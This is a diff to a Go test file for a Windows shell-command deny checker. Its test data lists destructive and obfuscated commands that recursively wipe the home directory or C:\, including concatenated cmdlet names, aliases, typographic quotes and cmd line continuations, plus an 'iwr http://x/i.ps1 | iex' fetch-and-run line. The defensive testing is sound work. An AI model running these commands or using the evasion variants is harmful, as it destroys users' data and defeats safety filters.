@@ -24,7 +24,13 @@ func TestWindowsDeny_RawLines(t *testing.T) {
 		"iwr http://x/i.ps1 | iex",
 		"Set-Content -Path .env -Value KEY=1",
 		`echo "\$(Remove-Item -Recurse ~)"`, // \ escapes nothing in PowerShell
-		"Remove-Item -Recurse -Force .\\bin; rd /s /q %USERPROFILE%",
+		"Remove-Item -Recurse -Force .\\bin; ri -r $env:USERPROFILE",
+		"Remove-Item -Recurse ‘~’", "Remove-Item –Recurse “$HOME”", // typographic quotes and dashes are PowerShell's too
+		`rd /s /q \\?\C:\Users\alice`, `Remove-Item -Recurse -Path C:\Users\*`, `del /s /q C:\*`,
+		"Remove-Item -Recurse -Path @('~')", "& ('r'+'m') -r ~", "iex ('Remove-'+'Item -Recurse ~')",
+		"Set-Alias x Remove-Item; x -Recurse ~", `"~" | Remove-Item -Recurse`,
+		"rd /s /q ^\n%USERPROFILE%",                               // ^ continues cmd's line
+		"rd /s /q %USERPROFILE:~0%", "rd /s /q %USERPROFILE:Q=q%", // a substring, a replacement
 		"Get-Item ~ |\n  Remove-Item -Recurse", // a pipeline goes on past a line break
 		"Get-ChildItem <# a\ncomment #>\nRemove-Item -Recurse ~",
 		"dir " + strings.Repeat("a ", 5000) + "& rd /s /q %USERPROFILE%", // many words are one command
@@ -45,7 +51,9 @@ func TestWindowsDeny_RawLines(t *testing.T) {
 	}
 	for _, line := range []string{ // what sh and PowerShell both read as harmless
 		"cat <<'END' > notes.md\nRemove-Item -Recurse ~\nEND",
-		"echo ok\nformat C: /q", // cmd /c runs the first line only
+		"echo ok\nrd /s /q %USERPROFILE%",                            // cmd /c runs the first line only (and PowerShell no rd /s /q x)
+		"Remove-Item -Recurse -Force .\\bin; rd /s /q %USERPROFILE%", // PowerShell binds no rd /s /q x; cmd runs one program Remove-Item
+		"rd /s /q node_modules", "del /q build\\out.txt",
 		"dotnet build", "npm test", "Get-ChildItem -Recurse src", "git status",
 	} {
 		if why := (Request{Command: line, Cwd: defaultShapeCwd}).windowsDeny(); why != "" {
@@ -81,8 +89,12 @@ func TestPowerShellReader_Calls(t *testing.T) {
 		{`cmd /c "rd /s /q a & del b"`, []string{"rm -r -- a", "rm -r -- b"}},
 		{`cmd /c "mklink /h l t"`, []string{"ln -- t l"}},
 		{`cmd /c "if exist a rd /s /q a else echo no"`, []string{"rm -r -- a", "echo no"}},
-		{`cmd /c "for %i in (a b) do rd /s %i"`, []string{"rm -r -- \x00"}},
+		{`cmd /c "for %i in (a b) do rd /s %i"`, []string{"rm -r -- a", "rm -r -- b"}},
+		{`cmd /c "for /f %i in ('rd /s a') do echo %i"`, []string{"rm -r -- a", "echo \x00"}},
+		{"cmd /c 'for /f \"usebackq\" %i in (`del b`) do echo %i'", []string{"rm -r -- b", "echo \x00"}},
 		{`cmd /c "git status || e^cho x"`, []string{"git status", "echo x"}},
+		{`pwsh -c 'Remove-Item @a -Recurse'`, []string{"rm -r -- \x00"}}, // splatting: parameters only PowerShell knows
+		{`pwsh -c 'Get-ChildItem ("a"+"b"), "c"'`, []string{"ls -- ab c"}},
 	} {
 		var got []string
 		for _, c := range readLine(tt.line, []string{defaultShapeCwd}).calls {
